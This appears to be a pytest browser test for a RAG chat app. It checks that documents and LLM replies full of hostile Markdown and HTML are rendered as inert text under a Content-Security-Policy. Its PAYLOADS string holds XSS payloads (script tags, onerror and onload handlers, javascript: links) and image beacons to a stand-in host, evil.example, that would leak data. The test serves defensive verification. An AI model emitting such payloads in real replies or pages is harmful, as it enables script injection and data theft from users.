"""Rendering that cannot leak, in a real browser (Debian's chromium): documents and an LLM reply full of Markdown
images, outside links, <img onerror>, javascript: and data: URLs are shown as text, every request the page makes
goes to the app itself, and no script of theirs runs. The page works under its Content-Security-Policy."""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from urllib.parse import urlparse

import pytest

from app_server import ROOT, running_app
from fakellm import FakeLLM

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--no-first-run"]
PAYLOADS = (
    "![leak](http://evil.example/leak.png?q=tomato) "
    "<img src=\"http://evil.example/x.png\" onerror=\"window.__pwned=1\"> "
    "[click here](http://evil.example/phish) [run](javascript:window.__pwned=2) "
    "<a href=\"javascript:window.__pwned=3\">js</a> ![pixel](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) "
    "<script>window.__pwned=4</script> <svg onload=\"window.__pwned=5\"></svg> <http://evil.example/auto>"
)
HOSTILE = f"""# ![t](http://evil.example/title.png) Tomato growing notes

Tomato plants need six hours of direct sun ![sun](http://evil.example/sun.png) every day to ripen.
{PAYLOADS}

Water tomato plants at the base early in the morning so the leaves stay dry. {PAYLOADS}

Original url: javascript:window.__pwned=6
"""
QUESTION = "How many hours of sun do tomato plants need?"


@pytest.fixture(scope="module")
def fake():
    with FakeLLM() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory, fake: FakeLLM):
    base = tmp_path_factory.mktemp("xss")
    corpus = base / "corpus"
    shutil.copytree(ROOT / "seeds", corpus)
    (corpus / "tomatoes.md").write_text(HOSTILE)
    env = {"RAG_MODEL": "openai/echo", "RAG_API_BASE": fake.base_url, "RAG_LLM_TIMEOUT": "20",
           "RAG_LLM_RETRIES": "0"}
    with running_app(base / "index", env, corpus=corpus) as url:
        yield url


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM.exists() and not os.environ.get("CI"), reason="needs Debian's chromium")
def test_hostile_documents_and_replies_fetch_nothing_and_run_nothing(hostile_app: str, fake: FakeLLM) -> None:
    from playwright.sync_api import expect, sync_playwright

    url = hostile_app
    own = urlparse(url).netloc
    fake.fail(500, "down")  # the first question falls back to the offline answer: the document's own sentences
    fake.reply(QUESTION)  # the second question is a follow-up: the model rewrites it first
    fake.reply(f"Tomatoes need six hours of sun [1]. {PAYLOADS} And water them in the morning [2].")
    requests: list[str] = []
    dialogs: list[str] = []
    violations: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 900})
        page.on("request", lambda r: requests.append(r.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: violations.append(m.text) if m.text.startswith("CSP ") else None)
        page.add_init_script("document.addEventListener('securitypolicyviolation', "
                             "e => console.log('CSP ' + e.violatedDirective + ' ' + e.blockedURI))")
        page.goto(url, wait_until="load")
        question = page.locator("#question textarea")
        expect(question).to_be_visible(timeout=60_000)

        for n in (1, 2):
            question.fill(QUESTION)
            page.locator("#ask").click()
            expect(page.locator("#chat a.cite").nth(n - 1)).to_be_visible(timeout=60_000)
        expect(page.locator("#chat")).to_contain_text("click here")  # the text stays, the link goes
        expect(page.locator("#sources")).to_contain_text("![sun](http://evil.example/sun.png)")  # as text
        expect(page.locator("#chat")).to_contain_text("showing the offline extracted answer")
        expect(page.locator("#chat")).not_to_contain_text(fake.base_url.split("//")[1].split("/")[0])
        expect(page.locator("#chat")).to_contain_text("<script>window.__pwned=4</script>")  # shown as text
        page.locator("#chat a.cite").last.click()
        expect(page.locator(".source.active")).to_have_count(1)
        expect(page.locator("#sources")).to_contain_text("Tomato")

        page.get_by_role("tab", name="Corpus").click()
        expect(page.locator("#documents")).to_contain_text("tomatoes.md")
        page.wait_for_timeout(1000)  # let any image or script the page might have let in try to load

        panes = "#chat, #sources, #documents, #upload-status, #vote"
        assert page.locator(f":is({panes}) img").evaluate_all(
            "els => els.filter(e => !e.src.startsWith(location.origin)).map(e => e.src)") == []
        hrefs = page.locator(f":is({panes}) a[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
        # in-page anchors and the app's own file route (a source card's "open the file"): nothing leaves the app
        assert hrefs and all(h.startswith(("#cite-", "/source/")) for h in hrefs), hrefs
        assert page.locator(f":is({panes}) script, :is({panes}) svg[onload], :is({panes}) [onerror]").count() == 0
        assert page.evaluate("window.__pwned") is None
        assert violations == []  # the page itself runs entirely within its policy
        # an inline script injected into the page (as an XSS would) is blocked: the policy allows only the page's
        # own inline scripts, by hash, not 'unsafe-inline'
        page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'window.__injected = 1';"
                      " document.head.appendChild(s); }")
        assert page.evaluate("window.__injected") is None
        browser.close()

    hosts = {urlparse(r).netloc for r in requests if urlparse(r).scheme in ("http", "https", "ws", "wss")}
    assert hosts == {own}, sorted(hosts)
    assert not any("evil.example" in r for r in requests)
    assert dialogs == []
